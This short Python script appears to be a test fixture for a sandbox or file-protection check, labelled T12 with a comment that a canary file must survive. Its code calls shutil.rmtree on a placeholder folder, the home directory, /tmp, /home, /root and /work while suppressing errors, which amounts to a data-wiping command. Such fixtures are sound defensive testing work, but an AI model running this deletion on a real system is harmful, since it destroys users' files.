# T12 ok: the canary must stay
import os
import shutil

for folder in ("@FOLDER@", os.path.expanduser("~"), "/tmp", "/home", "/root", "/work"):
    shutil.rmtree(folder, ignore_errors=True)
